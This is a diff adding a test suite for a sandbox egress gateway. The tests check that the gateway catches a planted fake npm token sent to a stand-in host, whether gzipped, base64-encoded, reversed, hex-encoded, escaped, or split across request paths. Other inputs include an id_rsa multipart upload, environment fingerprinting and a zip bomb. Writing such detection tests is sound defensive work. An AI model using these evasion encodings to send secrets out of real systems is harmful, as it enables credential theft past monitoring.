@@ -1,0 +1,154 @@
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import type { Gateway } from '../../../src/egress/gateway.js';
+import { exchange, gatewayWith, keeper, securely } from '../harness.js';
+
+const kept = keeper();
+const TOKEN = 'npm_Xk29fQpL7vRt3WsZ8yBnC4dMhJ6gUeA1oTiD';
+const identity = {
+  hostname: '0f1e2d3c4b5a',
+  user: 'ci',
+  home: '/home/ci',
+  variables: ['LOGNAME', 'npm_config_registry', 'NODE_EXTRA_CA_CERTS'],
+};
+const SINK = { status: 404 };
+
+const sinking = (): Promise<Gateway> =>
+  gatewayWith({ secrets: [{ name: 'npm token', value: TOKEN }], identity, sink: SINK, caps: { refusedMs: 500 } }).then(
+    kept,
+  );
+
+/** A request to a refused host over TLS, as a program in the sandbox sends it. */
+function send(gateway: Gateway, head: string, body: Buffer | string = ''): Promise<string> {
+  const bytes = Buffer.from(body);
+  const request = `${head}\r\nHost: x.invalid\r\nConnection: close\r\nContent-Length: ${bytes.length}\r\n\r\n`;
+  return securely(gateway, 'x.invalid:443', gateway.authority, request + bytes.toString('latin1'));
+}
+const post = (gateway: Gateway, body: Buffer | string, more = '') =>
+  send(gateway, `POST /in HTTP/1.1${more === '' ? '' : `\r\n${more}`}`, body);
+const sent = (gateway: Gateway) => gateway.records()[0]?.requests;
+
+const JSON_BODY = JSON.stringify({ token: TOKEN });
+const b64 = (text: Buffer | string) => Buffer.from(text).toString('base64');
+
+describe('a planted secret is recognised in a body', () => {
+  it.each<[what: string, body: Buffer | string, header: string, encoding: string]>([
+    ['as it is', JSON_BODY, '', 'plain'],
+    ['compressed (gzip)', gzipSync(JSON_BODY), 'Content-Encoding: gzip', 'plain'],
+    ['compressed (br)', brotliCompressSync(JSON_BODY), 'Content-Encoding: br', 'plain'],
+    ['compressed (deflate)', deflateSync(JSON_BODY), 'Content-Encoding: deflate', 'plain'],
+    ['compressed (raw deflate)', deflateRawSync(JSON_BODY), 'Content-Encoding: deflate', 'plain'],
+    ['compressed twice', gzipSync(gzipSync(JSON_BODY)), 'Content-Encoding: gzip, gzip', 'plain'],
+    ['compressed without saying so', gzipSync(JSON_BODY), '', 'plain in gzip'],
+    ['in base64 twice', b64(b64(JSON_BODY)), '', 'base64 in base64'],
+    ['in base64 of gzip', JSON.stringify({ data: b64(gzipSync(JSON_BODY)) }), '', 'plain in gzip in base64'],
+    ['backwards', [...JSON_BODY].reverse().join(''), '', 'plain in reverse'],
+    ['backwards in base64', b64([...JSON_BODY].reverse().join('')), '', 'plain in reverse in base64'],
+    ['in hexadecimal of base64', Buffer.from(b64(JSON_BODY)).toString('hex'), '', 'base64 in hex'],
+    [
+      'in escapes of JSON',
+      `{"a":"${[...TOKEN].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"}`,
+      '',
+      'plain in escapes',
+    ],
+    ['in %xx', [...TOKEN].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''), '', 'plain in escapes'],
+  ])('%s', async (_what, body, header, encoding) => {
+    const gateway = await sinking();
+    expect(await post(gateway, body, header)).toMatch(/^HTTP\/1.1 200 /);
+    expect(gateway.leaks()).toEqual([
+      expect.objectContaining({ secret: 'npm token', host: 'x.invalid', where: 'body', encoding }),
+    ]);
+  });
+
+  it.each([
+    ['the end of paths', (piece: string) => `/p/${piece}`],
+    ['queries', (piece: string, i: number) => `/?n=${i}&d=${piece}`],
+  ])('in pieces over many requests, in %s', async (_what, path) => {
+    const gateway = await sinking();
+    const pieces = TOKEN.match(/.{1,5}/g) ?? [];
+    for (const [i, piece] of pieces.entries()) await send(gateway, `GET ${path(piece, i)} HTTP/1.1`);
+    expect(gateway.leaks()).toEqual([expect.objectContaining({ secret: 'npm token', where: 'url' })]);
+  });
+});
+
+describe('what was sent is on record', () => {
+  it.each<[what: string, body: Buffer | string, header: string, shown: object]>([
+    ['JSON', '{"a": 1,\n "b": 2}', '', { bodyKind: 'json', body: '{"a": 1, "b": 2}' }],
+    ['a form', 'a=1&b=2', 'Content-Type: application/x-www-form-urlencoded', { bodyKind: 'form', body: 'a=1&b=2' }],
+    [
+      'parts',
+      '--x\r\nContent-Disposition: form-data; name="f"; filename="id_rsa"\r\n\r\nkey\r\n--x--\r\n',
+      'Content-Type: multipart/form-data; boundary=x',
+      { bodyKind: 'multipart', body: expect.stringContaining('filename="id_rsa" key') },
+    ],
+    ['compressed JSON', gzipSync('{"a":1}'), 'Content-Encoding: gzip', { bodyKind: 'json', body: '{"a":1}' }],
+    ['binary data', Buffer.from([0, 255, 1, 2]), '', { bodyKind: 'binary', body: '' }],
+    ['what is no gzip', 'hello\xff', 'Content-Encoding: gzip', { bodyKind: 'unread', body: '' }],
+    ['an encoding that is not undone', Buffer.from([1, 2, 200]), 'Content-Encoding: zstd', { bodyKind: 'unread' }],
+    ['markup and control characters', '<b>\x1b[31m&\x07', '', { bodyKind: 'text', body: '<b>[31m&' }],
+    ['more than is shown', 'x'.repeat(5_000), '', { body: 'x'.repeat(1_000), bodyBytes: 5_000 }],
+  ])('%s', async (_what, body, header, shown) => {
+    const gateway = await sinking();
+    await post(gateway, body, header);
+    expect(sent(gateway)).toEqual([expect.objectContaining({ method: 'POST', path: '/in', status: 200, ...shown })]);
+  });
+
+  it('and what it tells of the sandbox', async () => {
+    const gateway = await sinking();
+    const environment = { LOGNAME: 'ci', npm_config_registry: 'https://r.example/', NODE_EXTRA_CA_CERTS: '/x' };
+    await post(gateway, b64(JSON.stringify({ host: identity.hostname, cwd: '/home/ci/project', ...environment })));
+    await send(gateway, `GET /?h=${identity.hostname} HTTP/1.1`);
+    await send(gateway, 'GET /honest?version=1.2.3 HTTP/1.1');
+    expect(sent(gateway)?.map(({ tells }) => tells)).toEqual([
+      ['the host name', 'the user name', 'the home folder', 'the environment'],
+      ['the host name'],
+      [],
+    ]);
+  });
+
+  it('an https URL that is sent to the proxy in the open (axios) is one of port 443', async () => {
+    const gateway = await sinking();
+    const head =
+      'POST https://open.invalid/in HTTP/1.1\r\nHost: open.invalid\r\nConnection: close\r\nContent-Length: 5';
+    expect(await exchange(gateway.ports.proxy, `${head}\r\n\r\nhello`)).toContain(' 200 OK');
+    expect(gateway.records()).toEqual([expect.objectContaining({ host: 'open.invalid', port: 443, allowed: false })]);
+    expect(sent(gateway)).toEqual([expect.objectContaining({ method: 'POST', path: '/in', body: 'hello' })]);
+  });
+
+  it('equal requests are one, counted; further ones are counted alone', async () => {
+    const gateway = await sinking();
+    for (let i = 0; i < 3; i += 1) await send(gateway, 'GET /same HTTP/1.1');
+    for (let i = 0; i < 30; i += 1) await send(gateway, `GET /${i} HTTP/1.1`);
+    const [record] = gateway.records();
+    expect(record?.requests).toHaveLength(20);
+    expect(record?.requests[0]).toMatchObject({ path: '/same', count: 3 });
+    expect(record?.requestsLeft).toBe(11);
+  });
+
+  it('what tells of the sandbox is not hidden by a flood before it', async () => {
+    const gateway = await sinking();
+    for (let i = 0; i < 30; i += 1) await send(gateway, `GET /${i} HTTP/1.1`);
+    await send(gateway, `GET /?h=${identity.hostname} HTTP/1.1`);
+    const [record] = gateway.records();
+    expect(record?.requests).toHaveLength(20);
+    expect(record?.requests.at(-1)?.tells).toEqual(['the host name']);
+    expect(record?.requestsLeft).toBe(11);
+  });
+
+  it('more bodies than are read of one job are counted', async () => {
+    const gateway = await sinking();
+    for (let i = 0; i < 16; i += 1) await post(gateway, `${i} ${'words '.repeat(170_000)}`);
+    expect(gateway.unreadBodies()).toBe(0);
+    await post(gateway, `last ${'words '.repeat(170_000)}`);
+    expect(gateway.unreadBodies()).toBe(1);
+    expect(gateway.records()[0]?.unread).toEqual([{ reason: 'too-much', serverName: null, count: 1 }]);
+  });
+
+  it('a zip bomb is given up, and told', async () => {
+    const gateway = await sinking();
+    const before = process.memoryUsage().rss;
+    await post(gateway, gzipSync(Buffer.alloc(512 * 1024 ** 2)), 'Content-Encoding: gzip');
+    expect(process.memoryUsage().rss - before).toBeLessThan(700 * 1024 ** 2);
+    expect(gateway.records()[0]?.unread).toEqual([{ reason: 'too-much', serverName: null, count: 1 }]);
+  });
+});
